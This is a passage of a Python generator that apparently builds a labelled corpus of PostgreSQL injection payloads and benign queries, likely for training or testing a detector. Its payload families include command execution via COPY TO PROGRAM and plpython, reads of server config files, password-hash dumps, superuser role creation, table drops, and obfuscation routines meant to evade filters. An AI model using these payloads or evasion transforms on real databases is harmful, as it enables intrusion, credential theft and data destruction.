            ("timestamp_cast", "AND %s::timestamptz IS NULL" % x), ("point_cast", "AND %s::point IS NULL" % x), ("macaddr_cast", "AND %s::macaddr IS NULL" % x),
            ("set_config_cast", "AND set_config('app.x', %s, true)::int = 0" % x), ("case_div_zero", "AND 1 = (CASE WHEN %s THEN 1/0 ELSE 1 END)" % pe),
            ("stored_xpath_leak", "AND xpath(%s, '<a/>') IS NULL" % x)]] + [
            ("repl_regclass", "repl", "(SELECT %s::regclass::oid::int)" % x, PG), ("concat_uuid", "concat", "%s::uuid::text" % x, PG), ("order_int_cast", "order", "%s::int" % x, PG),
            ("assign_money", "assign", "{col} = %s::money::numeric" % x, PG), ("row_uuid", "row", row_of("%s::uuid" % x), PG), ("interval_text", "iexpr", "%s::interval" % x, PG),
            ("jkey_int", "jkey", "%s::int::text" % x, PG), ("frame_int", "frame", "%s::int" % x, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        n = r.randint(1, 5)
        return [
            ("dollar_similar", "cond", "OR %s SIMILAR TO %s" % (D(w), D(w[:2] + "%")), PG), ("dollar_eq_upper", "cond", "OR upper(%s) = %s" % (D(w), D(w.upper())), PG),
            ("dollar_any", "cond", "OR %s = ANY(ARRAY[%s])" % (D(w), D(w)), PG), ("dollar_regclass_leak", "cond", "AND (%s || (%s)::text)::regclass IS NULL" % (D(w), e), PG),
            ("dollar_cron_job", "stack", "SELECT cron.schedule(%s, %s, %s)" % (D(nm), D("* * * * *"), D("DROP TABLE %s" % t)), PG),
            ("dollar_set_config_role", "stack", "SELECT set_config(%s, %s, false)" % (D("role"), D(role)), PG), ("dollar_copy_to_file", "stack", "COPY (SELECT %s) TO %s" % (D(w), D("/tmp/" + nm)), PG),
            ("dollar_alter_password", "stack", "ALTER ROLE %s PASSWORD %s" % (role, D(rword(r, 12))), PG),
            ("dollar_union", "union", "UNION ALL SELECT %s" % nulls(n, r.randrange(n), "%s || (%s)::text" % (D("~"), e)), PG),
            ("dollar_concat", "concat", "%s || (%s)::text" % (D(":"), e), PG), ("dollar_repl", "repl", "(SELECT octet_length(%s))" % D(w), PG),
            ("dollar_assign", "assign", "{col} = %s" % D(w), PG), ("dollar_row", "row", row_of(D(w2)), PG), ("dollar_interval", "iexpr", "%s::interval" % D("%d days" % a), PG)]
    if fam == "e_escape":
        hx = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        u8 = lambda v: "".join("\\U%08X" % ord(c) for c in v)
        return [
            ("e_hex_quote_eq", "cond", "OR E'\\x27' = chr(39)", PG), ("e_u4_quote_eq", "cond", "OR E'\\u0027' = ''''", PG),
            ("e_hex_word_eq", "cond", "OR E'%s' = '%s'" % (hx(w), w), PG), ("e_U8_word_eq", "cond", "OR E'%s' = '%s'" % (u8(w), w), PG),
            ("e_tab_escape", "cond", "OR position(E'\\t' in E'a\\tb') = 2", PG), ("e_backslash_b", "cond", "OR length(E'\\b\\f') = 2", PG),
            ("e_hex_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % hx(pc), PG), ("e_hex_read_file", "stack", "SELECT pg_read_file(E'%s')" % hx(f), PG),
            ("e_U8_role", "stack", "CREATE ROLE %s SUPERUSER LOGIN PASSWORD E'%s'" % (nm, u8(rword(r, 6))), PG),
            ("uamp_uescape", "cond", "OR U&'!%04X%s' UESCAPE '!' = '%s'" % (ord(w[0]), w[1:], w), PG),
            ("e_union_quote", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "E'\\x27' || (%s)::text" % e), PG),
            ("e_concat_newline", "concat", "E'\\x0a' || (%s)::text" % e, PG), ("e_interval", "iexpr", "E'\\x31 day'::interval", PG),
            ("e_assign", "assign", "{col} = E'\\x31'", PG), ("e_row", "row", row_of("E'%s'" % hx(w)), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        evil = r.choice(["ALTER ROLE %s SUPERUSER" % role, "TRUNCATE %s" % t, "GRANT pg_write_server_files TO %s" % role, "CREATE ROLE %s SUPERUSER LOGIN" % nm,
                         "COPY (SELECT 1) TO PROGRAM '%s'" % pc, "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t])
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_reverse", "DO %s" % B("BEGIN EXECUTE reverse('%s'); END" % sq(evil[::-1]))),
            ("do_execute_chr_agg", "DO %s" % B("BEGIN EXECUTE (SELECT string_agg(chr(c), '') FROM unnest(ARRAY[%s]) c); END" % ",".join(str(ord(c)) for c in evil))),
            ("do_execute_b64", "DO %s" % B("BEGIN EXECUTE convert_from(decode('%s', 'base64'), 'UTF8'); END" % base64.b64encode(evil.encode()).decode())),
            ("do_execute_format_s", "DO %s" % B("BEGIN EXECUTE format('%%s %%s', '%s', '%s'); END" % (sq(evil.split(" ", 1)[0]), sq(evil.split(" ", 1)[1])))),
            ("do_execute_lower", "DO %s" % B("BEGIN EXECUTE lower('%s'); END" % sq(evil.upper())) if "PROGRAM" not in evil else "DO %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil))),
            ("do_for_update_loop", "DO %s" % B("BEGIN LOOP PERFORM 1 FROM %s FOR UPDATE; PERFORM pg_sleep(1); END LOOP; END" % t)),
            ("do_terminate_loop", "DO %s" % B("DECLARE p int; BEGIN FOR p IN SELECT pid FROM pg_stat_activity WHERE pid <> pg_backend_pid() LOOP PERFORM pg_terminate_backend(p); END LOOP; END")),
            ("do_raise_to_jsonb", "DO %s" % B("BEGIN RAISE EXCEPTION '%%', (SELECT jsonb_agg(to_jsonb(z)) FROM %s z); END" % t)),
            ("auth_uid_hijack", "CREATE OR REPLACE FUNCTION auth.uid() RETURNS uuid LANGUAGE sql STABLE AS %s" % B("SELECT '00000000-0000-0000-0000-000000000000'::uuid")),
            ("sql_function_copy", "CREATE FUNCTION %s() RETURNS void LANGUAGE sql SECURITY DEFINER AS %s" % (nm, B(evil))),
            ("procedure_commit", "CREATE PROCEDURE %s() LANGUAGE plpgsql AS %s; CALL %s()" % (nm, B("BEGIN EXECUTE '%s'; COMMIT; END" % sq(evil)), nm)),
            ("trigger_fn_exec", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS %s; CREATE TRIGGER %s BEFORE UPDATE ON %s FOR EACH STATEMENT EXECUTE FUNCTION %s()"
             % (nm, B("BEGIN EXECUTE '%s'; RETURN NULL; END" % sq(evil)), nm, t, nm)),
            ("do_plpython_os", "DO LANGUAGE plpython3u %s" % B("import os; os.system('%s')" % pc.replace("'", ""))),
            ("stored_do_block", "DO %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("authid_agg", "(SELECT string_agg(rolname || ':' || coalesce(rolpassword, ''), ';') FROM pg_authid)"), ("cron_commands", "(SELECT string_agg(command, ' | ') FROM cron.job)"),
            ("to_jsonb_row", "(SELECT to_jsonb(z)::text FROM %s z LIMIT 1)" % t), ("array_agg_secret", "(SELECT array_agg(%s)::text FROM %s)" % (p, t)),
            ("query_to_xml_dump", "query_to_xml('SELECT %s, %s FROM %s', true, false, '')::text" % (u, p, t)), ("xmlagg_secret", "(SELECT xmlagg(xmlelement(name s, %s))::text FROM %s)" % (p, t)),
            ("format_pair", "format('%%s=%%s', (SELECT %s FROM %s LIMIT 1), (SELECT %s FROM %s LIMIT 1))" % (u, t, p, t)),
            ("pgss_queries", "(SELECT string_agg(left(query, 60), ' ;; ') FROM pg_stat_statements)"), ("hba_file", "pg_read_file('pg_hba.conf', 0, 400)"),
            ("jwt_claims", "current_setting('request.jwt.claims', true)"), ("stored_concat_secret", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)),
            ("probe_t_f", "(CASE WHEN %s THEN 't' ELSE 'f' END)" % pe)]] + [
            ("assign_to_jsonb", "assign", "{col} = (SELECT to_jsonb(z)::text FROM %s z LIMIT 1)" % t, PG),
            ("row_array_agg", "row", row_of("(SELECT array_agg(%s)::text FROM %s)" % (p, t), "NULL"), PG), ("jkey_secret", "jkey", "(SELECT %s FROM %s LIMIT 1)" % (p, t), PG)]
    raise KeyError(fam)

# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off: comment spellings weighted to ones the earlier files used least."""
    return r.choice(["--", "--", "--+", "-- #", "--/", "--\\", "--*", "--?", "---", "----", "-- x", ";-- -", "/*!", "/*--", "--\f", "--%s" % rword(r, 1).upper(),
                     "-- %d" % r.randint(10, 99), "--\u2028", "-- ;", "/*\n"])


def breakout(r, si, orig, mode, core):
    return corpus_kit.slot_breakout(globals(), r, si, orig, mode, core)


MODES = {"q": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "jkey"),
         "e": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict"),
         "d": ("stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "frame", "sub"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}
SLOT_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
              "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval",
              "frame": lambda si: si["frame"] and si["type"] == "n", "sub": lambda si: si["subscript"], "jkey": lambda si: si["jkey"]}


def fitting(si, cores):
    """The cores whose mode has a form for the slot; slot-aimed modes are kept only where they fit and
    weighted up; stored_* cores only (and more often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in SLOT_MODES:
            if SLOT_MODES[c[1]](si):
                out += [c] * 5
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 10
        else:
            out.append(c)
    return out


def hand(r, si, fam):
    return corpus_kit.slot_hand(globals(), r, si, fam)


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(5)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return w[:1].upper() + w[1:].lower()
            if style == 1:
                return "".join(c.lower() if j % 2 else c.upper() for j, c in enumerate(w))
            if style == 2:
                return w[:1].upper() + w[1:-1].lower() + w[-1:].upper()
            if style == 3:
                return "".join(c.upper() if c.lower() in "aeiou" else c.lower() for c in w)
            half = len(w) // 2
            return w[:half].lower() + w[half:].upper()
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\f\f", "\r\n", "\t\f", " \r ", "\n\t\n", "\f \t", "\r\r", "\t\t \t", "\n \f"]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\(", lambda m: r.choice(["(\n", "(\f", "("]) if r.random() < 0.3 else "(", t)
            return re.sub(r"(,|<>|>=|<=)", lambda m: r.choice(["\f", "\r\n", "\t"]) + m.group(1) + r.choice(["\f", "\n", ""]) if r.random() < 0.4 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/*_*/", "/*0*/", "/*a b*/", "/*\n*/", "/*--*/", "/**/\t", "/*-*/", "/*;*/", "/*/**/*/", "/*x*//*y*/", "/*%s*/" % rstr(r, r.randint(2, 5))]
        split_kw = r.random() < 0.15

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if split_kw:
                t = re.sub(r"\b(SELECT|UNION|WHERE|CASE|FROM)\b", lambda m: m.group(0)[:2] + "/**/" + m.group(0)[2:], t, count=1)
            return re.sub(r"\(", lambda m: "/**/(" if r.random() < 0.25 else "(", t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in|BY|by) (\d+|true|false|NULL|null|current_user|now\(\)|version\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in|SELECT|select|THEN|then|ELSE|else) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Gwen O'Malley", "Ayesha Noor", "Teva", "Giulia", "Mensun", "Dafydd", "Tomoko", "Bryn Alsop", "Ngaio", "Sheikha M.", "Jarrah"]
BOATS = ["Kingfisher", "Dabchick", "Ariadne", "Sweet Pea", "Otter"]
FLAVOURS = ["pistachio", "stracciatella", "amarena", "salted caramel", "fior di latte", "mango"]
GEYSERS = ["Strokkur", "Old Faithful", "Geysir", "Castle", "Pohutu", "Lady Knox"]


def complex_gens():
    G, add = registry()

    @add("cx18_sqlc_jdbi", "complex_orm_generated")
    def _(r):
        return r.choice([
            "-- name: GetBoat :one\nSELECT boat_id, boat_name, berths FROM narrowboats WHERE boat_id = $1 LIMIT 1",
            "-- name: ListLegs :many\nSELECT leg_id, from_lock, to_lock, hours FROM cruise_legs WHERE route = $1 ORDER BY leg_id LIMIT $2 OFFSET %d" % r.choice([0, 20, 40]),
            "-- name: CreateFuelLog :one\nINSERT INTO fuel_logs (boat_id, litres, pumped_by) VALUES ($1, $2, $3) RETURNING log_id, pumped_at",
            "SELECT loom_id, warp_count, sett_epi FROM looms WHERE studio = $1 AND sett_epi BETWEEN $2 AND $3 ORDER BY sett_epi DESC LIMIT %d" % r.choice([10, 25, 100]),
            "SELECT dye_lot, colour_name FROM yarn_wool WHERE dye_lot = ANY($1::text[]) AND skeins > %d" % r.randint(0, 40)])

    @add("cx18_mbplus_doobie_honey", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT id,strain_code,genus,species,isolated_on FROM culture_strain WHERE deleted=0 AND (genus = $1) ORDER BY isolated_on DESC LIMIT %d" % r.choice([10, 20, 50]),
            "UPDATE culture_vial SET location=$1, version=version+1 WHERE id=$2 AND version=%d AND deleted=0" % r.randint(1, 30),
            "SELECT COUNT( * ) AS total FROM culture_vial WHERE deleted=0 AND (freezer_rack = $1)",
            "SELECT g.grotesque_id, g.facade FROM grotesques g WHERE g.cathedral = $1 AND g.erosion_grade >= $2 ORDER BY g.grotesque_id LIMIT %d" % r.randint(5, 60),
            "SELECT \"model_id\", \"title\" FROM \"origami_models\" WHERE (\"designer\" = $1) AND (\"creases\" > $2) ORDER BY \"title\" ASC LIMIT %d OFFSET %d" % (r.choice([10, 20]), r.choice([0, 10, 30])),
            "INSERT INTO \"registrations\" (\"attendee_email\", \"badge_name\", \"workshop_ids\") VALUES ($1, $2, $3) RETURNING *"])

    @add("cx18_sqlmodel_exposed_laravel", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT camel.id, camel.name, camel.owner, camel.age_years FROM camel WHERE camel.id = %d" % r.randint(1, 900),
            "INSERT INTO vet_check (camel_id, checked_on, verdict) VALUES (%d, '%s'::date, 'fit to race') RETURNING vet_check.id" % (r.randint(1, 900), rdate(r)),
            "SELECT sails.sail_id, sails.mill_id, sails.cloth FROM sails WHERE sails.mill_id = %d ORDER BY sails.sail_id" % r.randint(1, 300),
            "select * from \"recipes\" where \"flavour\" = ? and \"deleted_at\" is null order by \"created_at\" desc limit %d".replace("?", "$1") % r.choice([15, 30]),
            "update \"recipes\" set \"sugar_pct\" = $1, \"updated_at\" = $2 where \"id\" = %d" % r.randint(1, 4000),
            "select exists(select * from \"tasting_notes\" where \"recipe_id\" = %d and \"deleted_at\" is null) as \"exists\"" % r.randint(1, 4000)])

    @add("cx18_supabase_postgrest", "complex_orm_generated")
    def _(r):
        return r.choice([
            "WITH pgrst_source AS (SELECT \"public\".\"soaps\".* FROM \"public\".\"soaps\" WHERE \"public\".\"soaps\".\"scent\" = $1 LIMIT %d OFFSET 0) SELECT null::bigint AS total_result_set, pg_catalog.count(_postgrest_t) AS page_total, coalesce(json_agg(_postgrest_t), '[]') AS body FROM (SELECT * FROM pgrst_source) _postgrest_t" % r.choice([10, 50, 100]),
            "select \"public\".\"soap_orders\".\"id\", \"public\".\"soap_orders\".\"bars\" from \"public\".\"soap_orders\" where \"public\".\"soap_orders\".\"customer_email\" = $1 order by \"public\".\"soap_orders\".\"created_at\" desc limit %d" % r.randint(1, 50),
            "select set_config('search_path', $1, true), set_config('role', $2, true), set_config('request.jwt.claims', $3, true)"])

    @add("cx18_builtin_text_json", "complex_builtin_funcs")
    def _(r):
        a, b = sorted(r.sample(range(1, 900), 2))
        w = rword(r, r.randint(4, 8))
        return r.choice([
            "SELECT jsonb_path_query_array('{\"palette\": [%d, %d]}', '$.palette[*] ? (@ > %d)')" % (a, b, a),
            "SELECT jsonb_set('{\"ground\": \"indigo\"}', '{border}', to_jsonb('%s'::text), true)" % w,
            "SELECT jsonb_strip_nulls(jsonb_build_object('a', %d, 'b', NULL, 'c', '%s'))" % (a, w),
            "SELECT string_agg(DISTINCT initcap(x), ', ' ORDER BY initcap(x)) FROM unnest(ARRAY['%s', '%s', '%s']) x" % (w, w[::-1], rword(r, 5)),
            "SELECT regexp_split_to_table('%s,%s;%s', '[,;]')" % (w, rword(r, 4), rword(r, 3)), "SELECT format('%%I.%%I', 'survey', '%s')" % w,
            "SELECT to_char(%d.%d, 'FM999G999D00')" % (b, a % 100), "SELECT width_bucket(%d, 0, 1000, 10)" % b,
            "SELECT date_bin('15 minutes', timestamp '%s', timestamp '2000-01-01')" % rts(r), "SELECT make_timestamptz(%s, 12, 0, 0, 'Pacific/Tahiti')" % rdate(r).replace("-0", "-").replace("-", ", "),
            "SELECT percent_rank(%d) WITHIN GROUP (ORDER BY g) FROM generate_series(1, %d) g" % (a, b), "SELECT gcd(%d, %d), lcm(%d, %d)" % (a, b, a % 50 + 1, b % 50 + 1),
            "SELECT trim_scale(%d.%d000)" % (a, b % 100), "SELECT array_positions(ARRAY[%d, %d, %d], %d)" % (a, b, a, a),
            "SELECT translate('%s', 'aeiou', 'AEIOU')" % w, "SELECT ltrim(to_char(%d, '0000009'))" % a, "SELECT jsonb_pretty('{\"w\": %d}'::jsonb)" % a,
            "SELECT num_nulls(NULL, %d, NULL)" % a, "SELECT to_timestamp(%d) AT TIME ZONE 'Asia/Dubai'" % (1700000000 + a * 1000),
            "SELECT string_to_table('%s %s', ' ')" % (w, rword(r, 4)), "SELECT bit_count('\\x%02x%02x'::bytea)" % (a % 256, b % 256)])

    @add("cx18_builtin_geo_time", "complex_builtin_funcs")
    def _(r):
        a, b = r.randint(1, 80), r.randint(1, 80)
        d = rdate(r)
        return r.choice([
            "SELECT point(%d, %d) <-> point(%d, %d)" % (a, b, b, a), "SELECT area(box '((0,0),(%d,%d))')" % (a, b), "SELECT circle '((0,0),%d)' @> point(1, 1)" % a,
            "SELECT date_trunc('week', date '%s')::date" % d, "SELECT extract(doy FROM date '%s')" % d, "SELECT date '%s' - date '2018-01-01'" % d,
            "SELECT (date '%s', interval '%d days') OVERLAPS (date '%s', interval '1 day')" % (d, a, d),
            "SELECT isfinite(date '%s'), isfinite(timestamp 'infinity')" % d, "SELECT timezone('Atlantic/Reykjavik', timestamptz '%s 06:00+00')" % d,
            "SELECT to_char(date '%s', 'IYYY-\"W\"IW')" % d, "SELECT age(date '%s', date '2000-02-29')" % d, "SELECT lseg '((0,0),(%d,%d))' ?|| lseg '((1,0),(%d,%d))'" % (a, b, a + 1, b)])

    @add("cx18_comments", "complex_comments_hints")
    def _(r):
        c = r.choice(["-- name: %s :many\n" % r.choice(["ListBoats", "GetLoom", "ListDives"]), "/* jdbi: TapestryDao.findWarp */ ", "/* mybatis-plus: CultureMapper.selectPage */ ",
                      "/* retool: query%d */ " % r.randint(1, 40), "/* appsmith: %s.run() */ " % r.choice(["SearchWrecks", "DivePlan"]), "-- Looker Query Context '{\"user_id\":%d,\"history_slug\":\"%s\"}'\n" % (r.randint(1, 99), rword(r, 6)),
                      "/* dagster run_id=%s asset=trek_daily */ " % rstr(r, 8).lower(), "/* prefect flow=weigh-in task=%d */ " % r.randint(1, 9), "-- supabase migration %d\n" % r.randint(20240101000000, 20251231000000),
                      "/* pg_cron job %d */ " % r.randint(1, 60), "/*+ SeqScan(g) */ ", "/* traceparent='00-%s-%s-01' */ " % (rstr(r, 32).lower(), rstr(r, 16).lower())])
        body = r.choice(["SELECT boat_id, boat_name FROM narrowboats WHERE berths >= %d" % r.randint(2, 8), "SELECT count(*) FROM survey_dives WHERE wreck_id = %d" % r.randint(1, 400),
                         "SELECT geyser_name, max(erupted_at) FROM eruptions GROUP BY geyser_name", "UPDATE llamas SET last_weighed = current_date WHERE llama_id = %d" % r.randint(1, 90),
                         "SELECT g.grotesque_id FROM grotesques g WHERE g.erosion_grade > %d" % r.randint(1, 5), "SELECT flavour, tubs FROM freezer_stock WHERE tubs < %d" % r.randint(1, 20)])
        return r.choice([c + body, body + r.choice([" -- ok", " /* end */", "\n-- note: don't remove", " -- $1 is the studio"])])

    @add("cx18_cte_window", "complex_cte_window")
    def _(r):
        n = r.randint(2, 12)
        return r.choice([
            "WITH legs AS (SELECT route, leg_id, hours, sum(hours) OVER w AS cum_hours FROM cruise_legs WINDOW w AS (PARTITION BY route ORDER BY leg_id ROWS UNBOUNDED PRECEDING)) SELECT * FROM legs WHERE cum_hours <= %d" % (n * 4),
            "SELECT weaver, woven_on, cm, lag(cm, %d) OVER (PARTITION BY weaver ORDER BY woven_on) AS prev FROM weaving_log" % r.randint(1, 3),
            "SELECT camel_id, finish_s, rank() OVER (PARTITION BY race_id ORDER BY finish_s) AS placing, ntile(%d) OVER (ORDER BY finish_s) FROM race_results" % n,
            "WITH RECURSIVE lineage(strain_id, parent_id, depth) AS (SELECT strain_id, parent_id, 0 FROM culture_strain WHERE strain_id = %d UNION ALL SELECT c.strain_id, c.parent_id, l.depth + 1 FROM culture_strain c JOIN lineage l ON c.parent_id = l.strain_id) SELECT * FROM lineage" % r.randint(1, 999),
            "SELECT geyser_id, erupted_at, erupted_at - lag(erupted_at) OVER (PARTITION BY geyser_id ORDER BY erupted_at) AS gap FROM eruptions WHERE erupted_at > now() - interval '%d days'" % n,
            "WITH ranked AS MATERIALIZED (SELECT flavour, overrun_pct, row_number() OVER (PARTITION BY flavour ORDER BY made_at DESC) AS rn FROM gelato_batches) SELECT flavour, overrun_pct FROM ranked WHERE rn <= %d" % n,
            "SELECT lagoon, line_id, depth_m, first_value(depth_m) OVER (PARTITION BY lagoon ORDER BY depth_m GROUPS BETWEEN %d PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM longlines" % (n % 4 + 1)])

    @add("cx18_query_builders", "complex_query_builder")
    def _(r):
        k = r.randint(1, 5)
        return r.choice([
            "SELECT * FROM \"wrecks\" WHERE \"sunk_year\" BETWEEN $1 AND $2 AND \"vessel_name\" ILIKE $3 ORDER BY \"sunk_year\" DESC LIMIT %d" % r.choice([20, 50]),
            "SELECT \"llama_id\", \"name\" FROM \"llamas\" WHERE \"herd\" IN (%s) AND \"retired\" = FALSE" % params(k),
            "SELECT mill_id, count(*) AS sails FROM sails WHERE cloth = $1 GROUP BY mill_id HAVING count(*) >= %d" % k,
            "SELECT o.id, o.bars, c.email FROM soap_orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at >= $1 AND o.scent = ANY($2) ORDER BY o.id LIMIT %d" % r.choice([25, 100]),
            "SELECT \"plan_id\" FROM \"dive_plans\" WHERE (\"wreck_id\" = $1 AND \"planned_for\" > $2) OR \"plan_id\" IN (%s)" % params(k, 3),
            "SELECT \"t\".\"trek_id\", \"t\".\"guide\" FROM \"treks\" AS \"t\" WHERE \"t\".\"trek_date\" >= $1 ORDER BY \"t\".\"trek_date\" LIMIT %d OFFSET %d" % (r.choice([10, 25, 50]), r.randint(0, 8) * 25),
            "UPDATE \"sails\" SET \"cloth\" = $1 WHERE \"sail_id\" IN (%s) RETURNING \"sail_id\"" % params(k, 2),
            "SELECT \"geyser_name\", count(*) FROM \"eruptions\" WHERE \"erupted_at\" >= now() - interval '%d days' GROUP BY \"geyser_name\" ORDER BY 2 DESC" % r.randint(1, 90),
            "DELETE FROM \"tasting_notes\" WHERE \"recipe_id\" = $1 AND \"note_id\" NOT IN (%s)" % params(k, 2)])

    @add("cx18_migration_scripts", "complex_migration_script")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE TYPE hire_status AS ENUM ('enquiry', 'confirmed', 'cancelled'); ALTER TABLE hire_bookings ADD COLUMN status_v%d hire_status NOT NULL DEFAULT 'enquiry'" % n,
            "ALTER TYPE hire_status ADD VALUE IF NOT EXISTS 'on_water' AFTER 'confirmed'; COMMENT ON TYPE hire_status IS 'booking lifecycle v%d'" % n,
            "CREATE DOMAIN lime_ratio_%d AS numeric(3,1) CHECK (VALUE > 0 AND VALUE <= 6); ALTER TABLE mortar_mixes ALTER COLUMN lime_ratio TYPE lime_ratio_%d" % (n, n),
            "ALTER TABLE public.scent_notes ENABLE ROW LEVEL SECURITY; CREATE POLICY scent_notes_read_%d ON public.scent_notes FOR SELECT TO authenticated USING (true)" % n,
            "GRANT USAGE ON SCHEMA survey TO wreck_viewer; GRANT SELECT ON ALL TABLES IN SCHEMA survey TO wreck_viewer; GRANT SELECT ON ALL SEQUENCES IN SCHEMA survey TO wreck_viewer",
            "CREATE TABLE eruption_obs_y%d (LIKE eruption_obs INCLUDING ALL); ALTER TABLE eruption_obs ATTACH PARTITION eruption_obs_y%d FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % (2000 + n, 2000 + n, 2000 + n, 2001 + n),
            "CREATE STATISTICS IF NOT EXISTS st_camel_%d (ndistinct, mcv) ON owner, age_years FROM camel; ANALYZE camel" % n,
            "ALTER TABLE mill_readings ADD COLUMN power_kw_%d numeric GENERATED ALWAYS AS (torque_nm * rpm / 9549) STORED; CREATE INDEX ON mill_readings (power_kw_%d)" % (n, n)])

    @add("cx18_union_reports", "complex_union_report")
    def _(r):
        y = r.randint(2018, 2026)
        return r.choice([
            "SELECT 'dives' AS kind, count(*) FROM survey_dives WHERE date_part('year', dived_at) = %d UNION ALL SELECT 'artifacts', count(*) FROM artifacts WHERE date_part('year', raised_at) = %d" % (y, y),
            "SELECT boat_name FROM narrowboats WHERE home_marina = 'Braunston' EXCEPT SELECT boat_name FROM narrowboats WHERE berths < %d ORDER BY 1" % r.randint(2, 6),
            "(SELECT flavour, 'top' AS band FROM gelato_sales ORDER BY units DESC LIMIT 3) UNION (SELECT flavour, 'bottom' FROM gelato_sales WHERE season = %d ORDER BY units LIMIT 3)" % y,
            "SELECT geyser_name FROM eruptions WHERE basin = 'Upper' INTERSECT SELECT geyser_name FROM eruption_gaps WHERE interval_min < %d" % r.randint(10, 200),
            "VALUES (%d, 'camel'), (%d, 'llama') UNION ALL SELECT count(*), 'pearl' FROM harvested_pearls" % (r.randint(1, 99), r.randint(1, 99))])

    @add("cx18_batch_insert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        rows = ", ".join("(%d, '%s', %d)" % (r.randint(1, 500), q(r.choice(PEOPLE))[1:-1], r.randint(1, 60)) for _ in range(k))
        return r.choice([
            "INSERT INTO lock_passages (boat_id, keeper, minutes) VALUES %s" % rows,
            "INSERT INTO fuel_logs (log_id, boat_id, litres) OVERRIDING SYSTEM VALUE VALUES %s" % ", ".join("(%d, %d, %d.%d)" % (r.randint(1000, 99999), r.randint(1, 40), r.randint(10, 90), r.randint(0, 9)) for _ in range(k)),
            "INSERT INTO race_results (race_id, camel_id, finish_s) SELECT %d, c, %d + c %% 7 FROM unnest(ARRAY[%s]) c" % (r.randint(1, 900), r.randint(400, 700), ids(r, k, 900)),
            "INSERT INTO freezer_stock (flavour, tubs) SELECT f, %d FROM unnest(ARRAY[%s]) f ON CONFLICT (flavour) DO NOTHING" % (r.randint(1, 30), ", ".join(q(x) for x in r.sample(FLAVOURS, k)))])

    @add("cx18_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["narrowboats", "cruise_legs", "culture_vial", "grotesques", "race_results", "eruption_obs", "freezer_stock", "survey_dives"])
        return r.choice(["CLUSTER %s USING %s_pkey" % (t, t), "REINDEX (VERBOSE) TABLE CONCURRENTLY %s" % t, "REFRESH MATERIALIZED VIEW CONCURRENTLY %s_summary" % t,
                         "VACUUM (ANALYZE, SKIP_LOCKED, PARALLEL %d) %s" % (r.randint(1, 4), t), "ALTER TABLE %s SET (autovacuum_vacuum_scale_factor = 0.0%d)" % (t, r.randint(1, 9)),
                         "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % t, "ANALYZE (SKIP_LOCKED) %s" % t, "ALTER INDEX %s_pkey SET (fillfactor = %d)" % (t, r.randint(70, 100)),
                         "SELECT relname, n_dead_tup FROM pg_stat_user_tables WHERE relname = '%s'" % t])

    @add("cx18_transactions", "complex_transactions")
    def _(r):
        n = r.randint(1, 9999)
        return r.choice([
            "BEGIN ISOLATION LEVEL REPEATABLE READ; SELECT boat_id FROM narrowboats WHERE boat_id = %d FOR NO KEY UPDATE; UPDATE narrowboats SET berths = berths WHERE boat_id = %d; COMMIT" % (n, n),
            "BEGIN; DECLARE c%d CURSOR FOR SELECT leg_id FROM cruise_legs ORDER BY leg_id; FETCH %d FROM c%d; MOVE RELATIVE 5 IN c%d; CLOSE c%d; COMMIT" % (n, r.randint(1, 50), n, n, n),
